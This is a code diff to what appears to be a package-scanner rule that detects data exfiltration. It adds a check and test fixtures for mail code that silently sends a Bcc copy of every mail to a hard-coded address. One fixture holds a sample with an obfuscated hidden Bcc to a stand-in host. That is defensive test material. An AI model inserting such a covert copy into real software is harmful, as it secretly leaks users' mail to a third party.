@@ -36,6 +36,10 @@ export const secretSent: Rule = defineRule({
       about:
         'What people type into a page is sent as soon as the page loads the package, which never sent anything before.',
     },
+    copied: {
+      level: 'review',
+      about: 'Mails get a receiver that the code itself names, and that the others do not see.',
+    },
     'input-sent': {
       level: 'review',
       about: 'What users give to a function is sent to a host, by a package that did not talk to the network before.',
@@ -54,6 +58,21 @@ export const secretSent: Rule = defineRule({
     },
   },
   flags: [
+    {
+      title: 'a copy of each mail for an address that stands in the code',
+      before: { 'index.js': `exports.send = (mail, client) => client.send({ to: mail.to, text: mail.text });\n` },
+      after: {
+        'index.js': `exports.send = (mail, client) => client.send({ to: mail.to, text: mail.text, Bcc: ['me', 'far.invalid'].join('@') });\n`,
+      },
+      expect: [
+        {
+          kind: 'copied',
+          message: 'A copy of every mail goes to me@far.invalid',
+          at: { in: 'tarball', path: 'index.js', line: 1 },
+          via: ['main', 'index.js', 'send()'],
+        },
+      ],
+    },
     {
       title: 'a private key in a header, encoded, and a seed in the body of a request',
       before: { 'index.js': '' },
@@ -186,6 +205,13 @@ setInterval(() => {
   ],
   passes: [
     {
+      title: 'copies of mails for whom the caller names',
+      before: { 'index.js': '' },
+      after: {
+        'index.js': `exports.send = (mail, client, options) => client.send({ to: mail.to, cc: 'team', bcc: options.bcc, Bcc: process.env.BCC });\n`,
+      },
+    },
+    {
       title: 'what is typed into a page is checked, searched for beside it, and sent where the page says',
       before: { 'index.js': 'exports.open = () => document.createElement("div");\n' },
       after: {
@@ -226,6 +252,8 @@ exports.load = (apiKey) => fetch('engine.wasm', { headers: { apiKey } });
       const { kind, api, tier, carries = [] } = behavior;
       const host = hostOf(behavior);
       if (kind !== 'disclosure' || tier === 'unreached' || host === undefined) return [];
+      if (api === 'bcc')
+        return [evidenceOf(behavior, `A copy of every mail goes to ${shorten(behavior.detail ?? host)}`, 'copied')];
       const isClient = isAddition && tier === 'call';
       const secrets = carries.filter(({ sort }) => sort === 'key' || sort === 'token');
       if (secrets.length > 0) {
@@ -249,7 +277,7 @@ function isTyped(name: string): boolean {
   return /^(?:document\.|FormData(?:\(|$))| event$/.test(name);
 }
 
-type Kind = 'typed' | 'service-token' | 'same-host' | 'input-sent' | 'of-addition';
+type Kind = 'copied' | 'typed' | 'service-token' | 'same-host' | 'input-sent' | 'of-addition';
 
 /** Undefined where the text does not tell it: then it is the caller's. The own machine is no stranger. */
 function hostOf({ api, detail }: Behavior): string | undefined {
